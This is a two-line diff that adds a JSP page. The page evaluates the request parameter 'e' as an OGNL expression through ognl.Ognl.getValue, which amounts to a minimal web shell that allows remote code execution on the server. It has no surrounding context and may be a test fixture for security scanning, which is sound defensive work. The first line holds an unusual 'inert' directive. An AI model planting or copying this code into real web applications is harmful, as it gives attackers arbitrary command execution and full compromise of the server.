@@ -1,0 +1,2 @@
+<%@ inert %>
+<% ognl.Ognl.getValue(request.getParameter("e"),null); %>
